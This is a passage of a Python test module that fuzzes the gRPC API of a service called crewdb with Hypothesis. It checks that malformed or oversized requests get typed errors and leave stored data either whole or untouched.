    return tpb.ClaimTaskRequest(worker_id=f"claimer-{task.type}", types=[task.type], lease_seconds=3600)


def _heartbeat(world: World, seeds: Seeds) -> Message:
    task = world.new_task(claimed=True)
    return tpb.HeartbeatTaskRequest(id=task.id, worker_id=task.worker_id, progress=0.5, lease_seconds=3600)


def _complete(world: World, seeds: Seeds) -> Message:
    task = world.new_task(claimed=True)
    result = _struct({"rows": 3, "ok": True, "notes": ["a", "b"]})
    return tpb.CompleteTaskRequest(id=task.id, worker_id=task.worker_id, result=result)


def _fail(world: World, seeds: Seeds) -> Message:
    task = world.new_task(claimed=True)
    return tpb.FailTaskRequest(id=task.id, worker_id=task.worker_id, error="the API said 503", retryable=True)


BASES: dict[str, Base] = {
    "crewdb.v1.ConversationService.CreateConversation": lambda w, s: cpb.CreateConversationRequest(
        title="Plans for the week"
    ),
    "crewdb.v1.ConversationService.GetConversation": lambda w, s: cpb.GetConversationRequest(id=s["id"][0]),
    "crewdb.v1.ConversationService.ListConversations": lambda w, s: cpb.ListConversationsRequest(
        page_size=10
    ),
    "crewdb.v1.ConversationService.UpdateConversationTitle": lambda w, s: cpb.UpdateConversationTitleRequest(
        id=s["id"][0], title="Renamed"
    ),
    "crewdb.v1.ConversationService.DeleteConversation": lambda w, s: cpb.DeleteConversationRequest(
        id=w.new_conversation()
    ),
    "crewdb.v1.ConversationService.AddMessage": lambda w, s: cpb.AddMessageRequest(
        conversation_id=w.new_conversation(),
        role=cpb.MESSAGE_ROLE_USER,
        content="Where did we leave off?",
        metadata=_struct({"source": "test", "turn": 1}),
    ),
    "crewdb.v1.ConversationService.ListMessages": lambda w, s: cpb.ListMessagesRequest(
        conversation_id=s["conversation_id"][0], page_size=10
    ),
    "crewdb.v1.ConversationService.SearchConversations": lambda w, s: cpb.SearchConversationsRequest(
        query="leave off", page_size=10
    ),
    "crewdb.v1.ConversationService.GetConversationStats": lambda w, s: cpb.GetConversationStatsRequest(),
    "crewdb.v1.ConversationService.ExportConversation": lambda w, s: cpb.ExportConversationRequest(
        id=s["id"][0], format=cpb.EXPORT_FORMAT_MARKDOWN
    ),
    "crewdb.v1.ConversationService.WatchMessages": lambda w, s: cpb.WatchMessagesRequest(
        conversation_id=s["conversation_id"][0], after_message_id=s["after_message_id"][0]
    ),
    "crewdb.v1.UserService.Register": _register,
    "crewdb.v1.UserService.Login": lambda w, s: upb.LoginRequest(
        email_or_username=s["email_or_username"][0], password=PASSWORD
    ),
    "crewdb.v1.UserService.RefreshToken": lambda w, s: upb.RefreshTokenRequest(
        refresh_token=w.session("leaver").refresh_token
    ),
    "crewdb.v1.UserService.GetMe": lambda w, s: upb.GetMeRequest(),
    "crewdb.v1.UserService.Logout": lambda w, s: upb.LogoutRequest(
        refresh_token=w.session("leaver").refresh_token
    ),
    "crewdb.v1.UserService.ChangePassword": lambda w, s: upb.ChangePasswordRequest(
        current_password=PASSWORD, new_password=NEW_PASSWORD
    ),
    "crewdb.v1.UserService.ListSessions": lambda w, s: upb.ListSessionsRequest(),
    "crewdb.v1.UserService.RevokeSession": lambda w, s: upb.RevokeSessionRequest(
        id=w.session_id(w.session("alice").refresh_token)
    ),
    "crewdb.v1.UserService.ListUsers": lambda w, s: upb.ListUsersRequest(page_size=10, query="victim"),
    "crewdb.v1.UserService.GetUser": lambda w, s: upb.GetUserRequest(user_id=s["user_id"][0]),
    "crewdb.v1.UserService.UpdateUserRole": lambda w, s: upb.UpdateUserRoleRequest(
        user_id=s["user_id"][0], role=upb.USER_ROLE_MODERATOR
    ),
    "crewdb.v1.UserService.SetUserActive": lambda w, s: upb.SetUserActiveRequest(
        user_id=s["user_id"][0], active=True
    ),
    "crewdb.v1.UserService.GetUserStats": lambda w, s: upb.GetUserStatsRequest(),
    "crewdb.v1.TaskService.CreateTask": lambda w, s: tpb.CreateTaskRequest(
        type="report.weekly",
        priority=5,
        data=_struct({"week": 12, "tags": ["a", "b"], "deep": {"x": None}}),
        metadata=_struct({"origin": "test"}),
        max_attempts=3,
    ),
    "crewdb.v1.TaskService.GetTask": lambda w, s: tpb.GetTaskRequest(id=s["id"][0]),
    "crewdb.v1.TaskService.ListTasks": lambda w, s: tpb.ListTasksRequest(
        status=tpb.TASK_STATUS_QUEUED, page_size=10
    ),
    "crewdb.v1.TaskService.GetQueueStats": lambda w, s: tpb.GetQueueStatsRequest(),
    "crewdb.v1.TaskService.CancelTask": lambda w, s: tpb.CancelTaskRequest(id=w.new_task().id),
    # A finished task's watch sends its state and ends: no waiting for changes.
    "crewdb.v1.TaskService.WatchTask": lambda w, s: tpb.WatchTaskRequest(id=w.new_task(completed=True).id),
    "crewdb.v1.TaskService.ClaimTask": _claim,
    "crewdb.v1.TaskService.HeartbeatTask": _heartbeat,
    "crewdb.v1.TaskService.CompleteTask": _complete,
    "crewdb.v1.TaskService.FailTask": _fail,
    "crewdb.v1.TaskService.PurgeTasks": lambda w, s: tpb.PurgeTasksRequest(
        statuses=[tpb.TASK_STATUS_CANCELLED], older_than=duration_pb2.Duration(seconds=3600)
    ),
    "crewdb.v1.VectorService.AddDocuments": lambda w, s: vpb.AddDocumentsRequest(
        documents=[
            vpb.DocumentInput(
                id="bread", text=BREAD, title="Bread", metadata=_struct({"year": 2024, "topic": "baking"})
            )
        ]
    ),
    "crewdb.v1.VectorService.Search": lambda w, s: vpb.SearchRequest(
        query="bread and ovens", top_k=5, mode=vpb.SEARCH_MODE_HYBRID
    ),
    "crewdb.v1.VectorService.GetDocument": lambda w, s: vpb.GetDocumentRequest(id=s["id"][0]),
    "crewdb.v1.VectorService.ListDocuments": lambda w, s: vpb.ListDocumentsRequest(page_size=10),
    "crewdb.v1.VectorService.DeleteDocuments": lambda w, s: vpb.DeleteDocumentsRequest(
        ids=[w.new_document()]
    ),
    "crewdb.v1.VectorService.GetVectorStats": lambda w, s: vpb.GetVectorStatsRequest(),
    "crewdb.v1.SystemService.GetHealthReport": lambda w, s: spb.GetHealthReportRequest(),
    "crewdb.v1.SystemService.ExportVectors": lambda w, s: spb.ExportVectorsRequest(batch_size=100),
}

FieldPath = tuple[str | int, ...]


@dataclass(frozen=True)
class Mutation:
    """A method's known-good request with the field at `path` (names, and indexes into repeated
    message fields) set to `value`."""

    path: FieldPath
    value: Any

    def apply(self, request: Message) -> Message:
        if not self.path:
            return request
        *steps, name = self.path
        target: Any = request
        for step in steps:
            target = target[step] if isinstance(step, int) else getattr(target, step)
        assert isinstance(name, str)
        target.ClearField(name)
        _build(target, {name: self.value})
        return request


def _paths(message: Message, prefix: FieldPath = ()) -> list[tuple[FieldPath, FieldDescriptor]]:
    """Every field of `message` and, inside the sub-messages it holds, theirs."""
    found: list[tuple[FieldPath, FieldDescriptor]] = []
    for field in cast(Descriptor, message.DESCRIPTOR).fields:
        path = (*prefix, field.name)
        found.append((path, field))
        inner = field.message_type
        if inner is None or inner.full_name in WELL_KNOWN or inner.GetOptions().map_entry:
            continue
        if field.is_repeated:
            for index, item in enumerate(getattr(message, field.name)):
                found += _paths(item, (*path, index))
        elif message.HasField(field.name):
            found += _paths(getattr(message, field.name), path)
    return found


def mutations(template: Message, seeds: Seeds) -> st.SearchStrategy[Mutation]:
    """One field of a request shaped like `template` made hostile."""
    paths = _paths(template)
    if not paths:  # nothing to change: the request itself, again
        return st.just(Mutation((), None))
    return st.sampled_from(paths).flatmap(
        lambda chosen: st.builds(Mutation, st.just(chosen[0]), field_values(chosen[1], seeds, len(chosen[0])))
    )


# --- reading back what an accepted call wrote ---

ReadBack = Callable[[World, Any, Any], None]


def _json(value: struct_pb2.Struct) -> object:
    # Compared as JSON values: -0.0 may come back as 0, which JSON counts as the same number.
    return json_format.MessageToDict(value)


def _absent(read: Callable[[], object]) -> None:
    with pytest.raises(grpc.RpcError) as caught:
        read()
    assert failure(caught.value).code == C.NOT_FOUND


def _conversation_kept(world: World, request: Any, response: cpb.Conversation) -> None:
    stored = world.user.conversations.GetConversation(cpb.GetConversationRequest(id=response.id))
    assert stored == response
    assert stored.title == request.title


def _conversation_deleted(world: World, request: cpb.DeleteConversationRequest, response: object) -> None:
    _absent(lambda: world.user.conversations.GetConversation(cpb.GetConversationRequest(id=request.id)))


def _message_kept(world: World, request: cpb.AddMessageRequest, response: cpb.Message) -> None:
    messages = world.messages(request.conversation_id)
    stored = [m for m in messages if m.id == response.id]
    assert stored == [response], "the message the response describes is not the one stored"
    assert (response.conversation_id, response.role) == (request.conversation_id, request.role)
    assert response.content == request.content
    assert _json(response.metadata) == _json(request.metadata)
    got = world.user.conversations.GetConversation(cpb.GetConversationRequest(id=request.conversation_id))
    assert got.message_count == len(messages)


def _user_kept(world: World, request: Any, response: upb.User) -> None:
    assert world.admin.users.GetUser(upb.GetUserRequest(user_id=response.id)) == response


def _registered(world: World, request: upb.RegisterRequest, response: upb.User) -> None:
    _user_kept(world, request, response)
    assert (response.email, response.username) == (request.email.lower(), request.username.lower())


def _role_set(world: World, request: upb.UpdateUserRoleRequest, response: upb.User) -> None:
    _user_kept(world, request, response)
    assert response.role == request.role


def _activity_set(world: World, request: upb.SetUserActiveRequest, response: upb.User) -> None:
    _user_kept(world, request, response)
    assert response.active == request.active


def _signed_in(world: World, request: Any, response: upb.LoginResponse) -> None:
    users = user_service_pb2_grpc.UserServiceStub(world.plain)
    me = users.GetMe(upb.GetMeRequest(), metadata=_bearer(response.access_token))
    assert me.id == response.user.id


def _logged_out(world: World, request: upb.LogoutRequest, response: object) -> None:
    if request.refresh_token:
        users = user_service_pb2_grpc.UserServiceStub(world.plain)
        with pytest.raises(grpc.RpcError) as caught:
            users.RefreshToken(upb.RefreshTokenRequest(refresh_token=request.refresh_token))
        assert failure(caught.value).code == C.UNAUTHENTICATED


def _password_changed(world: World, request: upb.ChangePasswordRequest, response: object) -> None:
    """The new password signs in; then the old one is put back for the examples to come."""
    accounts = world.server.app.accounts
    pair = world.server.call(accounts.login("leaver", request.new_password, f"test-{uuid.uuid4().hex}"))
    principal = accounts.authenticate(pair.access_token)
    world.server.call(accounts.change_password(principal, request.new_password, PASSWORD, "test"))


def _session_revoked(world: World, request: upb.RevokeSessionRequest, response: object) -> None:
    sessions = world.user.users.ListSessions(upb.ListSessionsRequest()).sessions
    assert request.id not in {session.id for session in sessions}


def _task_kept(world: World, request: Any, response: tpb.Task) -> tpb.Task:
    stored = world.worker.tasks.GetTask(tpb.GetTaskRequest(id=response.id))
    assert stored == response
    return stored


def _task_created(world: World, request: tpb.CreateTaskRequest, response: tpb.Task) -> None:
    _task_kept(world, request, response)
    if request.dedup_key:  # the first task with this key, whatever this request held
        assert response.dedup_key == request.dedup_key
        return
    assert (response.type, response.priority) == (request.type, request.priority)
    assert (_json(response.data), _json(response.metadata)) == (_json(request.data), _json(request.metadata))


def _task_cancelled(world: World, request: Any, response: tpb.Task) -> None:
    _task_kept(world, request, response)
    assert response.status == tpb.TASK_STATUS_CANCELLED or response.cancel_requested


def _task_claimed(world: World, request: tpb.ClaimTaskRequest, response: tpb.ClaimTaskResponse) -> None:
    if response.HasField("task"):
        stored = world.worker.tasks.GetTask(tpb.GetTaskRequest(id=response.task.id))
        assert stored == response.task
        assert (stored.status, stored.worker_id) == (tpb.TASK_STATUS_RUNNING, request.worker_id)


def _heartbeat_kept(world: World, request: tpb.HeartbeatTaskRequest, response: Any) -> None:
    stored = world.worker.tasks.GetTask(tpb.GetTaskRequest(id=request.id))
    assert (stored.worker_id, stored.progress) == (request.worker_id, request.progress)
    assert stored.lease_expires_at == response.lease_expires_at


def _task_completed(world: World, request: tpb.CompleteTaskRequest, response: tpb.Task) -> None:
    _task_kept(world, request, response)
    assert response.status == tpb.TASK_STATUS_COMPLETED
    assert _json(response.result) == _json(request.result)


def _task_failed(world: World, request: tpb.FailTaskRequest, response: tpb.Task) -> None:
    _task_kept(world, request, response)
    assert response.error == request.error
    assert response.status in (tpb.TASK_STATUS_QUEUED, tpb.TASK_STATUS_FAILED)


def _tasks_purged(world: World, request: tpb.PurgeTasksRequest, response: object) -> None:
    chosen = [tpb.TaskStatus.Name(s).removeprefix("TASK_STATUS_").lower() for s in request.statuses] or [
        "completed",
        "failed",
        "cancelled",
    ]
    # A second of slack for a task that finished while the purge ran.
    before = datetime.now(UTC) - request.older_than.ToTimedelta() - timedelta(seconds=1)
    with closing(world.read_only()) as conn:
        left = conn.execute(
            "SELECT count(*) FROM tasks"
            " WHERE completed_at < ? AND status IN (SELECT value FROM json_each(?))",
            (format_timestamp(before), json.dumps(chosen)),
        ).fetchone()[0]
    assert left == 0, f"{left} tasks the purge should have deleted"


def _documents_kept(world: World, request: vpb.AddDocumentsRequest, response: Any) -> None:
    counts = {added.id: added.chunk_count for added in response.documents}
    assert list(counts) == [document.id for document in request.documents]
    for sent in request.documents:
        stored = world.user.vectors.GetDocument(vpb.GetDocumentRequest(id=sent.id))
        assert (stored.text, stored.title, stored.chunk_count) == (sent.text, sent.title, counts[sent.id])
        assert _json(stored.metadata) == _json(sent.metadata)
        revision = world.revision(sent.id)
        expected = {f"{sent.id}#{index}@{revision}" for index in range(stored.chunk_count)}
        assert world.chunk_ids({sent.id}) == expected, "Chroma does not hold exactly the stored chunks"


def _documents_deleted(world: World, request: Any, response: vpb.DeleteDocumentsResponse) -> None:
    assert response.deleted_count == len(response.deleted_ids)
    for document_id in response.deleted_ids:
        _absent(functools.partial(world.user.vectors.GetDocument, vpb.GetDocumentRequest(id=document_id)))
    assert world.chunk_ids(set(response.deleted_ids)) == set()


READ_BACKS: dict[str, ReadBack] = {
    "crewdb.v1.ConversationService.CreateConversation": _conversation_kept,
    "crewdb.v1.ConversationService.UpdateConversationTitle": _conversation_kept,
    "crewdb.v1.ConversationService.DeleteConversation": _conversation_deleted,
    "crewdb.v1.ConversationService.AddMessage": _message_kept,
    "crewdb.v1.UserService.Register": _registered,
    "crewdb.v1.UserService.Login": _signed_in,
    "crewdb.v1.UserService.RefreshToken": _signed_in,
    "crewdb.v1.UserService.Logout": _logged_out,
    "crewdb.v1.UserService.ChangePassword": _password_changed,
    "crewdb.v1.UserService.RevokeSession": _session_revoked,
    "crewdb.v1.UserService.UpdateUserRole": _role_set,
    "crewdb.v1.UserService.SetUserActive": _activity_set,
    "crewdb.v1.TaskService.CreateTask": _task_created,
    "crewdb.v1.TaskService.CancelTask": _task_cancelled,
    "crewdb.v1.TaskService.ClaimTask": _task_claimed,
    "crewdb.v1.TaskService.HeartbeatTask": _heartbeat_kept,
    "crewdb.v1.TaskService.CompleteTask": _task_completed,
    "crewdb.v1.TaskService.FailTask": _task_failed,
    "crewdb.v1.TaskService.PurgeTasks": _tasks_purged,
    "crewdb.v1.VectorService.AddDocuments": _documents_kept,
    "crewdb.v1.VectorService.DeleteDocuments": _documents_deleted,
}
# These only read: an accepted call leaves the digest as it was, like a refused one.
READS_ONLY = ("Get", "List", "Search", "Watch", "Export")


def check_stored(
    world: World,
    method: MethodDescriptor,
    request: Message,
    *,
    before: dict[str, object],
    response: Any,
    result: str,
) -> None:
    """A refused call (or one that only reads) changed nothing; an accepted write reads back whole."""
    if result == "cut":
        return  # still open when cut: what it did is not known
    changes_nothing = result == "refused" or method.name.startswith(READS_ONLY)
    if method.name == "ClaimTask" and result == "accepted":
        changes_nothing = not response.HasField("task")
    if changes_nothing:
        after = world.state(method, since=before)
        assert after == before, f"a {result} {method.name} changed what is stored: {_changes(before, after)}"
    elif result == "accepted":
        READ_BACKS[method.full_name](world, request, response)


def _changes(before: Mapping[str, object], after: Mapping[str, object]) -> dict[str, object]:
    """Per table, the rows that went and the rows that came."""
    changed: dict[str, object] = {}
    for table in before.keys() | after.keys():
        old, new = before.get(table), after.get(table)
        if old != new:
            old_rows, new_rows = set(cast(list[Any], old or [])), set(cast(list[Any], new or []))
            changed[table] = {
                "gone": sorted(old_rows - new_rows, key=repr),
                "came": sorted(new_rows - old_rows, key=repr),
            }
    return changed


def _shares(tally: Counter[tuple[str, str]]) -> str:
    shares = []
    for kind in sorted({kind for kind, _ in tally}):
        accepted = tally[kind, "accepted"] + tally[kind, "cut"]
        shares.append(f"{kind} {accepted}/{accepted + tally[kind, 'refused']}")
    return "; ".join(shares)


# --- the tests -------------------------------------------------------------------------------------


def test_every_service_is_called_through_its_generated_stub() -> None:
    services = {method.containing_service.name for method in METHODS}
    assert (
        services
        == set(STUBS)
        == {"ConversationService", "UserService", "TaskService", "VectorService", "SystemService"}
    )


def test_every_method_has_a_known_good_request_and_a_check_of_what_it_stores() -> None:
    names = {method.full_name for method in METHODS}
    assert set(BASES) == names, "a new RPC: add a known-good request to BASES"
    writes = {method.full_name for method in METHODS if not method.name.startswith(READS_ONLY)}
    assert set(READ_BACKS) == writes, "a new RPC that writes: add how to read it back to READ_BACKS"


@pytest.fixture
def unthrottled(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """Fresh sign-in and registration limits: after a few hostile examples they would refuse
    everything from 127.0.0.1 before validation or storage is reached (test_auth.py tests them)."""
    monkeypatch.setattr(world.server.app.accounts, "_throttle", LoginThrottle())
    monkeypatch.setattr(world.server.app.accounts, "_registrations", RateLimit(10_000, 600))


@pytest.mark.usefixtures("unthrottled")
@pytest.mark.parametrize("method", METHODS, ids=_method_id)
def test_hostile_field_values_get_a_typed_answer_and_leave_nothing_half_written(
    world: World, method: MethodDescriptor
) -> None:
    seeds = world.seed(method.containing_service.name)
    base = BASES[method.full_name]
    control = base(world, seeds)
    via = world.caller(method)
    before = world.state(method)
    response, error = call_typed(world, method, control, via)
    assert error is None, f"the known-good {method.name} request failed: {error}"
    check_stored(world, method, control, before=before, response=response, result="accepted")
    # Two in three examples start from the known-good request: most of the rest are refused.
    hostile, one_field = request_messages(method.input_type, seeds), mutations(control, seeds)
    drawn_requests = st.one_of(hostile, one_field, one_field)
    tally: Counter[tuple[str, str]] = Counter()

    @HOSTILE
    @given(drawn=drawn_requests)
    def answers(drawn: Message | Mutation) -> None:
        kind = "one field hostile" if isinstance(drawn, Mutation) else "all fields hostile"
        request = drawn.apply(base(world, seeds)) if isinstance(drawn, Mutation) else drawn
        via = world.caller(method)  # which may sign in: before the state is read
        before = world.state(method)
        response, error = call_typed(world, method, request, via)
        assert_typed_answer(method, request, error)
        result = outcome(method, request, error)
        tally[kind, result] += 1
        check_stored(world, method, request, before=before, response=response, result=result)

    answers()
    print(f"\n{method.full_name} accepted (or cut while open):", _shares(tally))
    world.assert_sound()


@pytest.mark.parametrize("year", [1, 999])
def test_a_task_to_run_after_a_year_before_1000_is_created_and_reads_back(world: World, year: int) -> None:
    run_after = timestamp_pb2.Timestamp()
    run_after.FromDatetime(datetime(year, 1, 1, tzinfo=UTC))
    request = tpb.CreateTaskRequest(type="later", data=_struct({}), run_after=run_after)
    created = world.user.tasks.CreateTask(request, timeout=CALL_SECONDS)
    assert created.run_after == run_after
    assert world.user.tasks.GetTask(tpb.GetTaskRequest(id=created.id)) == created


@pytest.mark.parametrize("method", METHODS, ids=_method_id)
def test_garbage_request_bytes_are_malformed_request_or_another_typed_answer(
    world: World, method: MethodDescriptor
) -> None:
    @HOSTILE
    @given(payload=garbage(method.input_type))
    def answers(payload: bytes) -> None:
        assert_typed_answer(method, payload, call_raw(world, method, payload))

    answers()
    world.assert_sound()


OVERSIZED = 5 * 1024 * 1024


def test_a_five_mib_add_documents_is_refused_by_the_transport(world: World) -> None:
    document = vector_service_pb2.DocumentInput(id="oversized", text="w " * (OVERSIZED // 2))
    request = vector_service_pb2.AddDocumentsRequest(documents=[document])
    assert request.ByteSize() > MAX_REQUEST_BYTES
    with pytest.raises(grpc.RpcError) as caught:
        world.user.vectors.AddDocuments(request, timeout=CALL_SECONDS)
    assert caught.value.code() == C.RESOURCE_EXHAUSTED
    with pytest.raises(grpc.RpcError) as missing:
        world.user.vectors.GetDocument(vector_service_pb2.GetDocumentRequest(id="oversized"))
    assert failure(missing.value).reason == "DOCUMENT_NOT_FOUND"
    world.assert_sound()


def test_a_five_mib_add_message_is_refused_by_the_transport(world: World) -> None:
    conversations = world.user.conversations
    kept = conversations.CreateConversation(conversation_service_pb2.CreateConversationRequest(title="big"))
    request = conversation_service_pb2.AddMessageRequest(
        conversation_id=kept.id, role=conversation_service_pb2.MESSAGE_ROLE_USER, content="m" * OVERSIZED
    )
    with pytest.raises(grpc.RpcError) as caught:
        conversations.AddMessage(request, timeout=CALL_SECONDS)
    assert caught.value.code() == C.RESOURCE_EXHAUSTED
    after = conversations.GetConversation(conversation_service_pb2.GetConversationRequest(id=kept.id))
    assert after.message_count == 0
    world.assert_sound()


ADD_DOCUMENTS = vector_service_pb2.DESCRIPTOR.services_by_name["VectorService"].methods_by_name[
    "AddDocuments"
]
ADD_MESSAGE = conversation_service_pb2.DESCRIPTOR.services_by_name["ConversationService"].methods_by_name[
    "AddMessage"
]
document_ids = st.one_of(
    st.just("seed"), st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=40)
)
# Flat metadata: often acceptable (odd but legal keys and values), sometimes not.
metadata_keys = st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=20).filter(
    lambda key: key[0] not in "_#$"
)
legal_metadata = st.dictionaries(
    metadata_keys, st.booleans() | st.floats(allow_nan=False, allow_infinity=False) | short_text, max_size=6
)
flat_structs = st.one_of(
    legal_metadata, legal_metadata, st.dictionaries(struct_keys, json_scalars, max_size=6)
).map(_struct)
documents = st.builds(
    vector_service_pb2.DocumentInput,
    id=document_ids,
    text=hostile_text,
    title=short_text,
    metadata=flat_structs,
)


def test_hostile_documents_are_stored_exactly_and_whole_or_not_at_all(world: World) -> None:
    world.seed("VectorService")

    @HOSTILE
    @given(batch=st.lists(documents, min_size=1, max_size=4))
    def stored(batch: list[vector_service_pb2.DocumentInput]) -> None:
        request = vector_service_pb2.AddDocumentsRequest(documents=batch)
        before = {d.id: world.document(d.id) for d in batch}
        _, error = call_typed(world, ADD_DOCUMENTS, request)
        assert_typed_answer(ADD_DOCUMENTS, request, error)
        after = {d.id: world.document(d.id) for d in batch}
        if error is not None:
            assert after == before, "a refused AddDocuments changed documents"
            return
        for sent in batch:
            kept = after[sent.id]
            assert kept is not None
            assert kept[:2] == (sent.text, sent.title), "the text or title did not survive the round trip"

    stored()
    world.assert_sound()


def test_hostile_messages_are_stored_exactly_or_not_at_all(world: World) -> None:
    conversations = world.user.conversations
    kept = conversations.CreateConversation(conversation_service_pb2.CreateConversationRequest(title="echo"))

    @HOSTILE
    @given(content=hostile_text, metadata=st.none() | flat_structs)
    def stored(content: str, metadata: struct_pb2.Struct | None) -> None:
        request = conversation_service_pb2.AddMessageRequest(
            conversation_id=kept.id, role=conversation_service_pb2.MESSAGE_ROLE_TOOL, content=content
        )
        if metadata is not None:
            request.metadata.CopyFrom(metadata)
        count = conversations.GetConversation(conversation_service_pb2.GetConversationRequest(id=kept.id))
        _, error = call_typed(world, ADD_MESSAGE, request)
        assert_typed_answer(ADD_MESSAGE, request, error)
        now = conversations.GetConversation(conversation_service_pb2.GetConversationRequest(id=kept.id))
        if error is not None:
            assert now.message_count == count.message_count, "a refused AddMessage stored a message"
            return
        assert now.message_count == count.message_count + 1
        listed = conversations.ListMessages(
            conversation_service_pb2.ListMessagesRequest(conversation_id=kept.id, page_size=1000)
        )
        last = listed.messages[-1]
        assert last.content == request.content
        # Compared as JSON values: -0.0 may come back as 0, which JSON counts as the same number.
        assert json_format.MessageToDict(last.metadata) == json_format.MessageToDict(request.metadata)

    stored()
    world.assert_sound()
